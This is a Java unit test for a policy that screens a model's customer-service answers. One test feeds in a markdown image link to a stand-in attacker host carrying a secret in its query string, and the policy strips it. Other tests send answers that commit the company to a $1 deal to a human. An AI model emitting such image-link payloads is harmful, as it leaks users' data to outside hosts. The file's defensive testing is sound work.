package io.parley.knowledge.model;

import static org.assertj.core.api.Assertions.assertThat;

import io.parley.knowledge.model.ModelOutputPolicy.Verdict;
import org.junit.jupiter.api.Test;

class ModelOutputPolicyUnitTests {

    @Test
    void sendsAPlainAnswerWithItsMarkupFiltered() {
        var verdict = ModelOutputPolicy.review("Refunds take 3 days [1]. ![x](https://evil.example/?c=secret)",
                host -> false);

        assertThat(verdict).isEqualTo(new Verdict.Send("Refunds take 3 days [1]."));
    }

    @Test
    void handsOverAnAnswerThatCommitsTheCompany() {
        var verdict = ModelOutputPolicy.review("Sure! That is legally binding, $1.", host -> true);

        assertThat(verdict).isInstanceOfSatisfying(Verdict.HandOver.class,
                handOver -> assertThat(handOver.reason()).isEqualTo("commitment"));
    }

    @Test
    void findsACommitmentThatMarkupSplits() {
        var verdict = ModelOutputPolicy.review("Yours for $<b></b>1", host -> true);

        assertThat(verdict).isInstanceOf(Verdict.HandOver.class);
    }
}
